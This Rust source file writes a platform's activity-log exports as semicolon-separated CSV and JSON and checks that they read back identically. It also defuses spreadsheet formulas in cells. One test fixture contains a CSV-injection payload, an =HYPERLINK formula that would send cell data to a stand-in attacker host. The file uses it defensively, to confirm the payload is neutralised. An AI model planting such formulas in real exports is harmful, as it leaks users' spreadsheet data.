//! The platform's export formats written back: CSV (`;`, a UTF-8 BOM, a header of field names)
//! and the JSON array, so that what is exported reads back identically.

use chrono::DateTime;

use crate::calendar::Zone;
use crate::record::Field;
use crate::store::Store;

/// Writes CSV as the platform does: a BOM, then a header of the twelve field names in
/// [`Field::ALL`] order, `;` between fields, quotes only where a cell needs them. An empty cell
/// is a null.
pub struct CsvWriter {
    out: Vec<u8>,
}

impl Default for CsvWriter {
    fn default() -> Self {
        Self::new()
    }
}

impl CsvWriter {
    pub fn new() -> Self {
        let mut writer = CsvWriter {
            out: b"\xEF\xBB\xBF".to_vec(),
        };
        writer.push_line(&Field::ALL.map(|field| field.name()));
        writer
    }

    /// Adds one record, its cells in [`Field::ALL`] order, each defused for spreadsheets
    /// ([`crate::spreadsheet::defuse`]; the CSV reader restores them).
    pub fn push(&mut self, cells: &[&str; 12]) {
        self.push_line(cells);
    }

    fn push_line(&mut self, cells: &[&str]) {
        for (index, cell) in cells.iter().enumerate() {
            if index > 0 {
                self.out.push(b';');
            }
            push_cell(&mut self.out, cell);
        }
        self.out.push(b'\n');
    }

    pub fn finish(self) -> Vec<u8> {
        self.out
    }
}

/// A cell as CSV with `;` between cells: defused when a spreadsheet would run it as a formula
/// ([`crate::spreadsheet::defuse`]: `=HYPERLINK(…)` is written `'=HYPERLINK(…)`), then quoted
/// when it holds the separator, a quote or a line break, its quotes doubled.
pub fn csv_cell(text: &str) -> String {
    let mut out = Vec::with_capacity(text.len());
    push_cell(&mut out, text);
    // Only ASCII quotes were added to the UTF-8 text.
    String::from_utf8(out).unwrap_or_default()
}

/// Appends [`csv_cell`]'s text to `out` (a million cells need no text of their own).
fn push_cell(out: &mut Vec<u8>, text: &str) {
    let text = crate::spreadsheet::defuse(text);
    if !text.contains([';', '"', '\n', '\r']) {
        out.extend_from_slice(text.as_bytes());
        return;
    }
    out.push(b'"');
    for byte in text.bytes() {
        if byte == b'"' {
            out.push(b'"');
        }
        out.push(byte);
    }
    out.push(b'"');
}

/// A row's timestamp as the API renders it for `timezone=<zone>`.
fn timestamp_text(store: &Store, row: usize, zone: &Zone) -> String {
    DateTime::from_timestamp_millis(store.timestamp(row))
        .map(|instant| zone.format_rfc3339(instant))
        .unwrap_or_default()
}

/// The rows of a store as the platform's CSV export, timestamps in `zone`.
pub fn csv_of_rows(store: &Store, rows: &[u32], zone: &Zone) -> Vec<u8> {
    let mut writer = CsvWriter::new();
    for &row in rows {
        let row = row as usize;
        let timestamp = timestamp_text(store, row, zone);
        let cells = Field::ALL.map(|field| match field {
            Field::Timestamp => timestamp.as_str(),
            Field::Diff => store.diff(row),
            Field::Text(text) => store.text(row, text),
        });
        writer.push(&cells);
    }
    writer.finish()
}

/// The rows of a store as the platform's JSON export: an array of objects with the twelve
/// fields, an empty text as `null` (the store does not tell them apart).
pub fn json_of_rows(store: &Store, rows: &[u32], zone: &Zone) -> Vec<u8> {
    let records: Vec<serde_json::Map<String, serde_json::Value>> = rows
        .iter()
        .map(|&row| {
            let row = row as usize;
            Field::ALL
                .iter()
                .map(|&field| {
                    let value = match field {
                        Field::Timestamp => timestamp_text(store, row, zone),
                        Field::Diff => store.diff(row).to_string(),
                        Field::Text(text) => store.text(row, text).to_string(),
                    };
                    let value = match value.is_empty() {
                        true => serde_json::Value::Null,
                        false => serde_json::Value::String(value),
                    };
                    (field.name().to_string(), value)
                })
                .collect()
        })
        .collect();
    serde_json::to_vec(&records).unwrap_or_default()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::parse::parse_any;

    /// Written by hand: what the platform's CSV export of these two records looks like.
    const EXPECTED: &str = "\u{feff}timestamp;domain_id;user_id;dataset_id;username;action;group_id;page_id;diff;map_id;reuse_title;subdomain_id\n\
        2024-03-31T03:00:00+02:00;ws;ann;trees;Ann;edit_dataset;;;\"{\"\"a\"\": \"\"x;y\"\"}\nline 2\";;;\n\
        2024-03-31T01:59:59+01:00;ws;bob;;;add_page;;home;;;<b>é 🎉</b>;sub\n";

    #[test]
    fn csv_as_the_platform_writes_it_and_reads_back() {
        let mut store = Store::new();
        parse_any(EXPECTED.as_bytes(), &mut store).unwrap();
        let paris: Zone = "Europe/Paris".parse().unwrap();
        let written = csv_of_rows(&store, &[0, 1], &paris);
        assert_eq!(String::from_utf8(written).unwrap(), EXPECTED);
    }

    #[test]
    fn json_as_the_platform_writes_it_and_reads_back() {
        let mut store = Store::new();
        parse_any(EXPECTED.as_bytes(), &mut store).unwrap();
        let written = json_of_rows(&store, &[1], &Zone::UTC);
        let value: serde_json::Value = serde_json::from_slice(&written).unwrap();
        assert_eq!(value[0]["timestamp"], "2024-03-31T00:59:59+00:00");
        assert_eq!(value[0]["reuse_title"], "<b>é 🎉</b>");
        assert_eq!(value[0]["dataset_id"], serde_json::Value::Null);
        let mut again = Store::new();
        parse_any(&written, &mut again).unwrap();
        assert_eq!(
            csv_of_rows(&again, &[0], &Zone::UTC),
            csv_of_rows(&store, &[1], &Zone::UTC)
        );
    }

    #[test]
    fn formulas_from_the_log_are_written_as_text_and_read_back_as_they_were() {
        let formula = r#"=HYPERLINK("http://evil.example/?"&A2,"open")"#;
        let record = crate::record::Record {
            timestamp: "2024-03-31T01:00:00Z".parse().unwrap(),
            user_id: "@alice".into(),
            action: "-edit".into(),
            reuse_title: Some(formula.into()),
            diff: Some("+SUM(1)".into()),
            ..Default::default()
        };
        let mut store = Store::new();
        store.push_record(&record);
        let written = String::from_utf8(csv_of_rows(&store, &[0], &Zone::UTC)).unwrap();
        let row = written.lines().nth(1).unwrap();
        // By hand: every cell that starts with = + - @ has a leading quote mark.
        assert_eq!(
            row,
            r#"2024-03-31T01:00:00+00:00;;'@alice;;;'-edit;;;'+SUM(1);;"'=HYPERLINK(""http://evil.example/?""&A2,""open"")";"#
        );
        let mut again = Store::new();
        parse_any(written.as_bytes(), &mut again).unwrap();
        assert_eq!(again.record(0), store.record(0));
    }

    proptest::proptest! {
        /// The writer against the csv crate's (the one it replaced, kept as the reference):
        /// the same bytes for any cells, separators, quotes, line breaks and formulas included.
        #[test]
        fn writes_what_the_csv_crate_writes(
            cells in proptest::array::uniform12("[a-zé;\"\n\r=+'@ -]{0,6}"),
        ) {
            let cells: [&str; 12] = std::array::from_fn(|i| cells[i].as_str());
            let mut ours = CsvWriter::new();
            ours.push(&cells);
            let mut reference = csv::WriterBuilder::new()
                .delimiter(b';')
                .from_writer(b"\xEF\xBB\xBF".to_vec());
            reference.write_record(Field::ALL.map(|field| field.name())).unwrap();
            reference
                .write_record(cells.map(|cell| crate::spreadsheet::defuse(cell).into_owned()))
                .unwrap();
            proptest::prop_assert_eq!(ours.finish(), reference.into_inner().unwrap());
        }
    }
}
